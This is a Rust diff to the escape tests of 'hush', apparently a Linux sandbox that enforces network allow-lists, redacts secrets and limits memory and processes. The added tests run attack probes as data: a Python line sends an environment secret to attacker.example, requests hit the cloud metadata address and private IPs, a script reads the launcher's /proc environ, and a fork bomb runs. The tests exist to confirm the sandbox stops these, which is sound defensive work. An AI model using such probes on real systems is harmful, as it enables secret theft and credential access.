@@ -79,11 +79,6 @@ fn have(mechanism: &str, test: &str) -> bool {
     ok
 }
 
-fn is_alive(pid: u32) -> bool {
-    // A zombie still has a /proc entry; only a live (or unreaped) process would be a leak.
-    std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok()
-}
-
 #[test]
 fn injected_secret_is_redacted_plain_and_base64() {
     let secret = fake_token(81);
@@ -239,43 +234,47 @@ fn network_sockets_are_refused_when_off() {
 #[test]
 fn timeout_kills_grandchildren_that_ignore_sigterm() {
     let dir = tempfile::tempdir().unwrap();
-    let pids = dir.path().join("pids");
+    let ready = dir.path().join("ready");
+    // Grandchildren are recognised from outside by a `sleep` duration no other process uses
+    // (pids inside the run's PID namespace and private /proc mean nothing out here).
+    let marker = format!(
+        "60.{}",
+        std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .subsec_nanos()
+    );
     // A grandchild in the process group and one that left it with setsid, both ignoring
     // SIGTERM; the direct child ignores it too.
     let script = format!(
-        "sh -c 'trap \"\" TERM; read s r < /proc/self/stat; echo $s >> {p}; exec sleep 60' & \
-         setsid sh -c 'trap \"\" TERM; read s r < /proc/self/stat; echo $s >> {p}; exec sleep 60' & \
-         trap '' TERM; while [ \"$(wc -l < {p})\" -lt 2 ]; do sleep 0.05; done; echo ready; sleep 60",
-        p = pids.display()
+        "sh -c 'trap \"\" TERM; echo >> {r}; exec sleep {m}' & \
+         setsid sh -c 'trap \"\" TERM; echo >> {r}; exec sleep {m}' & \
+         trap '' TERM; while [ \"$(wc -l < {r})\" -lt 2 ]; do sleep 0.05; done; echo ready; sleep 60",
+        r = ready.display(),
+        m = marker,
     );
-    std::fs::write(&pids, "").unwrap();
+    std::fs::write(&ready, "").unwrap();
     let d = dir.path().to_str().unwrap();
-    // Pids as the test sees them: from /proc/self (a PID namespace renumbers `$$`).
-    let (code, out, err) = run_sh(
-        &[
-            "--allow-write",
-            d,
-            "--allow-read",
-            "/proc",
-            "--timeout",
-            "1",
-        ],
-        &script,
-    );
+    let (code, out, err) = run_sh(&["--allow-write", d, "--timeout", "1"], &script);
     assert_eq!(code, 124, "{out}{err}");
     assert!(out.contains("ready"), "{out}{err}");
     assert!(err.contains("timeout"), "{err}");
-    let pids: Vec<u32> = std::fs::read_to_string(&pids)
-        .unwrap()
-        .lines()
-        .map(|l| l.trim().parse().unwrap())
-        .collect();
-    assert_eq!(pids.len(), 2);
     // The helper reaps before `hush run` returns; allow the kernel a moment to tear down.
     std::thread::sleep(Duration::from_millis(100));
-    for pid in pids {
-        assert!(!is_alive(pid), "grandchild {pid} survived the timeout");
-    }
+    let needle = format!("sleep\0{marker}");
+    let survivors: Vec<String> = std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter(|e| {
+            std::fs::read(e.path().join("cmdline"))
+                .is_ok_and(|c| c.windows(needle.len()).any(|w| w == needle.as_bytes()))
+        })
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(
+        survivors.is_empty(),
+        "grandchildren {survivors:?} survived the timeout"
+    );
 }
 
 #[test]
@@ -320,7 +319,11 @@ fn cpu_and_memory_limits_stop_the_program() {
         code, 0,
         "a 1 GiB allocation must fail under a 256 MiB limit"
     );
-    assert!(err.contains("MemoryError"), "{err}");
+    // RLIMIT_AS fails the allocation; a cgroup's memory.max has the OOM killer end the run.
+    assert!(
+        err.contains("MemoryError") || code == 128 + 9,
+        "{code}: {err}"
+    );
 }
 
 #[test]
@@ -421,7 +424,10 @@ fn the_launchers_environment_is_out_of_reach() {
             !out.contains("NOT_GRANTED") && !out.contains(&secret),
             "{ns:?}: {out}"
         );
-        assert_eq!(err.matches("Permission denied").count(), 2, "{ns:?}: {err}");
+        // With a private /proc the launcher's pid does not exist there at all.
+        let refused =
+            err.matches("Permission denied").count() + err.matches("No such file").count();
+        assert_eq!(refused, 2, "{ns:?}: {err}");
     }
 }
 
@@ -477,6 +483,331 @@ fn a_secret_split_across_writes_is_redacted() {
     assert_eq!(code, 0, "{err}");
     assert!(!out.contains(head) && !out.contains(tail), "{out}");
     assert!(out.starts_with("key=[REDACTED"), "{out}");
+}
+
+/// A tiny HTTP server on host loopback answering `hello from NAME` to every request, and
+/// counting the connections it accepted.
+struct LocalServer {
+    port: u16,
+    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
+}
+
+impl LocalServer {
+    fn start(name: &'static str) -> LocalServer {
+        use std::io::{Read, Write};
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let counter = std::sync::Arc::clone(&hits);
+        std::thread::spawn(move || {
+            for conn in listener.incoming() {
+                let Ok(mut conn) = conn else { continue };
+                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                let mut head = Vec::new();
+                let mut b = [0u8; 1];
+                while !head.ends_with(b"\r\n\r\n") && matches!(conn.read(&mut b), Ok(1)) {
+                    head.push(b[0]);
+                }
+                let body = format!("hello from {name}");
+                let _ = write!(
+                    conn,
+                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                    body.len()
+                );
+            }
+        });
+        LocalServer { port, hits }
+    }
+
+    fn hits(&self) -> usize {
+        self.hits.load(std::sync::atomic::Ordering::SeqCst)
+    }
+}
+
+/// Python run inside the sandbox: each line of output is one probe's result.
+const NET_PROBES: &str = r#"
+import socket, sys, urllib.request, urllib.error
+allowed, other = sys.argv[1], sys.argv[2]
+def get(url):
+    try:
+        with urllib.request.urlopen(url, timeout=10) as r:
+            return "ok %s" % r.read().decode()
+    except urllib.error.HTTPError as e:
+        return "refused %d" % e.code
+    except Exception as e:
+        return "error %s" % type(e).__name__
+print("allowed:", get("http://127.0.0.1:%s/a" % allowed))
+print("other:", get("http://127.0.0.1:%s/b" % other))
+print("metadata:", get("http://169.254.169.254:%s/latest/meta-data/" % allowed))
+print("private:", get("http://10.20.30.40:%s/" % allowed))
+print("loopback-name:", get("http://localhost:%s/" % allowed))
+print("unlisted-name:", get("http://unlisted.example:%s/" % other))
+# CONNECT tunnel to the allowed server, by hand.
+try:
+    proxy = urllib.request.getproxies()["http"].rsplit(":", 1)
+    s = socket.create_connection((proxy[0].split("//")[1], int(proxy[1])), timeout=10)
+    s.sendall(b"CONNECT 127.0.0.1:%s HTTP/1.1\r\n\r\n" % allowed.encode())
+    head = s.recv(4096)
+    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
+    body = b""
+    while True:
+        chunk = s.recv(4096)
+        if not chunk:
+            break
+        body += chunk
+    print("connect:", head.split(b"\r\n")[0].decode(), body.decode().rsplit("\r\n", 1)[-1])
+except Exception as e:
+    print("connect: error", type(e).__name__)
+# Straight to the allowed server, bypassing the proxy.
+try:
+    socket.create_connection(("127.0.0.1", int(allowed)), timeout=3)
+    print("direct: connected")
+except OSError as e:
+    print("direct: blocked", type(e).__name__)
+"#;
+
+/// True when `/usr/bin/python3` exists; otherwise says the test is skipped.
+fn have_python(test: &str) -> bool {
+    let ok = Path::new("/usr/bin/python3").exists();
+    if !ok {
+        #[allow(clippy::print_stderr)]
+        {
+            eprintln!("SKIPPED {test}: needs /usr/bin/python3");
+        }
+    }
+    ok
+}
+
+#[test]
+fn escape_network_allowlist_reaches_only_listed_hosts_through_the_proxy() {
+    let name = "escape_network_allowlist_reaches_only_listed_hosts_through_the_proxy";
+    if !have_python(name) {
+        return;
+    }
+    let allowed = LocalServer::start("allowed");
+    let other = LocalServer::start("other");
+    let (a, o) = (allowed.port.to_string(), other.port.to_string());
+    // The first entry names the test server's address (so its loopback address is allowed);
+    // the second lets any host through on that port, so only the address checks stand
+    // between the program and the metadata, private and loopback addresses it asks for.
+    let exact = format!("127.0.0.1:{a}");
+    let any_host = format!("*:{a}");
+    // Each mode that this kernel can enforce: a network namespace holding only the proxy, and
+    // Landlock's TCP rule without namespaces.
+    let mut modes: Vec<(&str, Vec<&str>)> = Vec::new();
+    if have("+net", name) {
+        modes.push(("namespaces", vec![]));
+    }
+    if have("tcp", name) {
+        modes.push(("landlock only", vec!["--no-namespaces"]));
+    }
+    for (mode, extra) in modes {
+        let mut cmd = hush_run(&["--allow-host", &exact, "--allow-host", &any_host]);
+        cmd.args(&extra)
+            .args(["--", "/usr/bin/python3", "-c", NET_PROBES, &a, &o]);
+        let (code, out, err) = run(&mut cmd);
+        assert_eq!(code, 0, "{mode}: {out}{err}");
+        let expect = [
+            "allowed: ok hello from allowed".to_string(),
+            "other: refused 403".to_string(),
+            "metadata: refused 403".to_string(),
+            "private: refused 403".to_string(),
+            "loopback-name: refused 403".to_string(),
+            "unlisted-name: refused 403".to_string(),
+            "connect: HTTP/1.1 200 Connection established hello from allowed".to_string(),
+        ];
+        let lines: Vec<&str> = out.lines().collect();
+        assert_eq!(lines[..expect.len()], expect, "{mode}: {out}{err}");
+        assert!(
+            lines[expect.len()].starts_with("direct: blocked"),
+            "{mode}: the proxy was bypassed: {out}{err}"
+        );
+        for (host, why) in [
+            (format!("127.0.0.1:{o}"), "not on the network allow-list"),
+            (format!("169.254.169.254:{a}"), "cloud metadata address"),
+            (format!("10.20.30.40:{a}"), "private address"),
+            (format!("localhost:{a}"), "loopback address"),
+            (
+                format!("unlisted.example:{o}"),
+                "not on the network allow-list",
+            ),
+        ] {
+            assert!(
+                err.lines().any(|l| l
+                    .starts_with(&format!("hush: network proxy refused `{host}`: "))
+                    && l.contains(why)),
+                "{mode}: refusal of {host} ({why}) not reported: {err}"
+            );
+        }
+    }
+    assert_eq!(other.hits(), 0, "the unlisted server was reached");
+    assert!(allowed.hits() >= 2);
+}
+
+#[test]
+fn escape_network_secret_in_a_refused_host_name_is_redacted() {
+    let name = "escape_network_secret_in_a_refused_host_name_is_redacted";
+    if !have_python(name) {
+        return;
+    }
+    let secret = fake_token(85).to_lowercase();
+    let script = "import os, urllib.request\n\
+                  try: urllib.request.urlopen('http://%s.attacker.example/' % os.environ['T'], timeout=5)\n\
+                  except Exception as e: print(type(e).__name__)";
+    let (code, out, err) = run(hush_run(&[
+        "--allow-host",
+        "api.example.com:443",
+        "--secret-env",
+        "T",
+        "--",
+        "/usr/bin/python3",
+        "-c",
+        script,
+    ])
+    .env("T", &secret));
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(out, "HTTPError\n", "{err}");
+    assert!(
+        !err.contains(&secret),
+        "secret leaked in the refusal: {err}"
+    );
+    assert!(
+        err.contains("hush: network proxy refused `[REDACTED"),
+        "{err}"
+    );
+}
+
+#[test]
+fn escape_proc_shows_only_the_runs_processes() {
+    let name = "escape_proc_shows_only_the_runs_processes";
+    if !have("private /proc", name) {
+        return;
+    }
+    let secret = fake_token(86);
+    let script = "ls /proc | grep '^[0-9]*$' | tr '\\n' ' '; echo; \
+                  cat /proc/$launcher/environ && echo launcher-environ-read; true";
+    let (code, out, err) = run_sh_knowing_launcher(
+        &["--allow-read", "/proc"],
+        &[("NOT_GRANTED", secret.as_str())],
+        script,
+    );
+    assert_eq!(code, 0, "{err}");
+    let pids: Vec<u32> = out
+        .lines()
+        .next()
+        .unwrap_or_default()
+        .split_whitespace()
+        .map(|p| p.parse().unwrap())
+        .collect();
+    // The init (1), the shell, and the pipeline's commands: nothing from outside.
+    assert!(pids.contains(&1), "{out}");
+    assert!(
+        pids.len() <= 8 && pids.iter().all(|&p| p < 100),
+        "/proc shows processes outside the run: {out}"
+    );
+    assert!(
+        !out.contains("launcher-environ-read") && !out.contains(&secret),
+        "{out}"
+    );
+    assert!(err.contains("No such file"), "{err}");
+}
+
+#[test]
+fn escape_limits_by_cgroup_stop_a_memory_hog_and_a_fork_bomb() {
+    let name = "escape_limits_by_cgroup_stop_a_memory_hog_and_a_fork_bomb";
+    let (code, _, err) = run(&mut hush_run(&[
+        "-v",
+        "--max-memory",
+        "256",
+        "--max-processes",
+        "16",
+        "--",
+        "true",
+    ]));
+    assert_eq!(code, 0, "{err}");
+    if !err.contains("cgroup limits") {
+        let why = err
+            .split("; ")
+            .find(|n| n.starts_with("limits by rlimits"))
+            .unwrap_or("no note");
+        #[allow(clippy::print_stderr)]
+        {
+            eprintln!(
+                "SKIPPED {name}: needs a delegated cgroup v2 subtree with the memory and pids \
+                 controllers ({})",
+                why.trim()
+            );
+        }
+        assert!(
+            err.contains("limits by rlimits: "),
+            "the reason is not reported: {err}"
+        );
+        return;
+    }
+    if !have_python(name) {
+        return;
+    }
+    let (code, out, err) = run(&mut hush_run(&[
+        "--max-memory",
+        "256",
+        "--",
+        "/usr/bin/python3",
+        "-c",
+        "b = bytearray(1 << 30); print('survived')",
+    ]));
+    assert_eq!(code, 128 + 9, "the OOM killer must end the run: {out}{err}");
+    // 40 forks under a limit of 16 tasks: the rest fail, and every child ends with the run.
+    let bomb =
+        "import os, time\nok = 0\nfor _ in range(40):\n    try:\n        pid = os.fork()\n    \
+                except OSError:\n        break\n    if pid == 0:\n        time.sleep(30)\n        \
+                os._exit(0)\n    ok += 1\nprint(ok)";
+    let (code, out, err) = run(&mut hush_run(&[
+        "--max-processes",
+        "16",
+        "--",
+        "/usr/bin/python3",
+        "-c",
+        bomb,
+    ]));
+    assert_eq!(code, 0, "{err}");
+    let forked: u32 = out.trim().parse().unwrap();
+    assert!(forked < 16, "pids.max did not stop the forks: {forked}");
+}
+
+#[test]
+fn malformed_allow_host_entries_are_usage_errors() {
+    let (code, out, err) = run(&mut hush_run(&[
+        "--allow-host",
+        "api-*.example.com:443",
+        "--",
+        "echo",
+        "must not run",
+    ]));
+    assert_eq!(code, 2, "{err}");
+    assert_eq!(out, "");
+    assert!(
+        err.contains("`api-*.example.com:443`") && err.contains("leading `*.`"),
+        "{err}"
+    );
+}
+
+#[test]
+fn the_program_inherits_no_capability_from_the_namespace_init() {
+    // The PID namespace's init keeps CAP_SYS_ADMIN (in the user namespace) to mount /proc;
+    // nothing of it may reach the program, in any set.
+    for ns in [&[][..], &["--no-namespaces"][..]] {
+        let mut flags = vec!["--allow-read", "/proc"];
+        flags.extend_from_slice(ns);
+        let (code, out, err) = run_sh(&flags, "grep '^Cap' /proc/self/status");
+        assert_eq!(code, 0, "{err}");
+        for set in ["CapInh", "CapPrm", "CapEff", "CapAmb"] {
+            let line = out.lines().find(|l| l.starts_with(set)).unwrap_or_default();
+            assert!(
+                line.ends_with(":\t0000000000000000"),
+                "{ns:?}: {set} not empty: {out}"
+            );
+        }
+    }
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -808,7 +1139,10 @@ fn policy_injects_only_granted_secrets_and_redacts_them_everywhere() {
         "landlock ABI",
         "policy_injects_only_granted_secrets (environ reads)",
     ) {
-        assert_eq!(stderr.matches("Permission denied").count(), 2, "{stderr}");
+        // With a private /proc the launcher's pid does not exist there at all.
+        let refused =
+            stderr.matches("Permission denied").count() + stderr.matches("No such file").count();
+        assert_eq!(refused, 2, "{stderr}");
     }
     let r = fx.event("redactions");
     // `env`, plain, base64, split.
